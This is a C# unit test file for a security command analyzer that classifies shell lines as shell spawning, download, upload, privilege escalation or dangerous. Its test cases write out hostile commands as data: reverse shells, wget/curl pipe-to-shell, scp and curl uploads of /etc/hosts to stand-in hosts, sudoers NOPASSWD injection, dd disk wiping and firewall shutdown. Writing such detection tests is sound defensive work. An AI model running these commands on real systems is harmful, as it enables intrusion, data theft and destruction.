using Threat.Features.Internal;
using Threat.TestKit;
using static Threat.Features.Tests.Make;

namespace Threat.Features.Tests;

[Category(TestRerun.Kernels)]
public sealed class CommandFeatureTests
{
    [Test]
    public void Counts_and_shares()
    {
        FeatureVector v = Extract(
            Command(50, "ls -l -a"), Command(49, "ls -a -l"), Command(48, "wget http://x/y.sh -O- | sh"), Command(47, "scp /etc/hosts me@evil:/x"), Command(46, "sudo ls"), Command(45, "./run.sh"),
            new FileTransferEvent(Ago(40), Source, TransferDirection.Inbound), new FileTransferEvent(Ago(39), Source, TransferDirection.Outbound));
        v.ShouldBe("command_count", 6);
        // ls -a -l, wget -O-, sh, scp, ls, run.sh
        v.ShouldBe("unique_commands", 6);
        v.ShouldBe("dangerous_commands", 2 / 6.0);
        v.ShouldBe("download_attempts", 2);
        v.ShouldBe("upload_attempts", 2);
        v.ShouldBe("script_execution_score", 2 / 6.0);
        v.ShouldBe("shell_spawning_score", 0);
        v.ShouldBe("privilege_escalation_score", 0.5);
        // Verbs: ls three times, wget, sh, scp, run.sh once each.
        v.ShouldBe("command_entropy", (3 / 7.0 * Math.Log2(7 / 3.0) + 4 / 7.0 * Math.Log2(7)) / Math.Log2(7));
        Extract(Login(3, "a")).ShouldMiss("command_count", FeatureStatus.NotObserved);
        Extract(new EntityContext { LiveSensors = SecurityEventKinds.Command }).ShouldMiss("dangerous_commands", FeatureStatus.Insufficient);
        Extract(Command(3, "ls")).ShouldMiss("command_entropy", FeatureStatus.Insufficient);
    }

    [Test]
    public void A_successful_escalation_counts_whole()
        => Extract(Command(3, "sudo -u root id", EventOutcome.Success), Command(2, "su")).ShouldBe("privilege_escalation_score", 1);

    [TestCase("show platform information")]
    [TestCase("tofu su plus")]
    [TestCase("echo 'sudo rm -rf /'")]
    [TestCase("grep wget access.log")]
    [TestCase("cat /proc/cpuinfo | grep name | wc -l")]
    [TestCase("uname -a; free -m; ls -la /var/run")]
    [TestCase("crontab -l")]
    [TestCase("rm notes.txt")]
    [TestCase("# wget http://x")]
    [TestCase("kill 123")]
    [TestCase("git commit -m 'chmod 4755 fixed'")]
    [TestCase("iptables -A INPUT -p tcp --dport 22 -j ACCEPT")]
    [TestCase("iptables -L -n -x")]
    public void Harmless_lines_are_harmless(string line) => Traits(line).ShouldBe(CommandTraits.None);

    [TestCase("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", (int)CommandTraits.ShellSpawn | (int)CommandTraits.Dangerous | (int)CommandTraits.Interpreter)]
    [TestCase("nc -e /bin/sh 10.0.0.1 4242", (int)CommandTraits.ShellSpawn | (int)CommandTraits.Dangerous)]
    [TestCase("python3.11 -c 'import pty; pty.spawn(\"/bin/bash\")'", (int)CommandTraits.ShellSpawn | (int)CommandTraits.Dangerous | (int)CommandTraits.Interpreter)]
    [TestCase("script -qc /bin/bash /dev/null", (int)CommandTraits.ShellSpawn | (int)CommandTraits.Dangerous)]
    [TestCase("cd /tmp; wget http://1.2.3.4/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh", (int)CommandTraits.Download | (int)CommandTraits.Dangerous | (int)CommandTraits.Interpreter)]
    [TestCase("/bin/busybox wget http://1.2.3.4/a", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
    [TestCase("tftp -g -r a 1.2.3.4", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
    [TestCase("curl -T /etc/hosts http://x", (int)CommandTraits.Upload | (int)CommandTraits.Dangerous)]
    [TestCase("curl -sf -f http://x/a", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
    [TestCase("curl -F file=@/etc/hosts http://x", (int)CommandTraits.Upload | (int)CommandTraits.Dangerous)]
    [TestCase("bash -C 'wget http://x'", (int)CommandTraits.Interpreter)]
    [TestCase("scp -F my.conf user@host:/a .", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
    [TestCase("iptables -P INPUT ACCEPT", (int)CommandTraits.Dangerous)]
    [TestCase("powershell -E AAAA", (int)CommandTraits.Interpreter | (int)CommandTraits.Dangerous)]
    [TestCase("scp user@host:/a .", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
    [TestCase("sudo -u bob cat /etc/shadow", (int)CommandTraits.Escalation | (int)CommandTraits.Dangerous)]
    [TestCase("su - root", (int)CommandTraits.Escalation)]
    [TestCase("chmod u+s /bin/x", (int)CommandTraits.Escalation | (int)CommandTraits.Dangerous)]
    [TestCase("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", (int)CommandTraits.Escalation | (int)CommandTraits.Dangerous)]
    [TestCase("HISTFILE=/dev/null", (int)CommandTraits.Dangerous)]
    [TestCase("unset HISTFILE", (int)CommandTraits.Dangerous)]
    [TestCase("echo $(curl -s http://x)", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
    [TestCase("echo \"`wget http://x`\"", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
    [TestCase("bash -c \"curl http://x | sh\"", (int)CommandTraits.Download | (int)CommandTraits.Dangerous | (int)CommandTraits.Interpreter)]
    [TestCase("nohup /tmp/x &", (int)CommandTraits.Dangerous)]
    [TestCase("dd if=/dev/zero of=/dev/sda", (int)CommandTraits.Dangerous)]
    [TestCase("powershell.exe -enc AAAA", (int)CommandTraits.Interpreter | (int)CommandTraits.Dangerous)]
    [TestCase("systemctl stop firewalld.service", (int)CommandTraits.Dangerous)]
    public void Techniques_are_recognised(string line, int expected) => ((int)Traits(line)).ShouldBe(expected, Traits(line).ToString());

    private static CommandTraits Traits(string line) => new CommandAnalyzer(Hashing.Process).Analyze(line, new IndexMap(), new IndexMap(), new TypedList<int>());
}
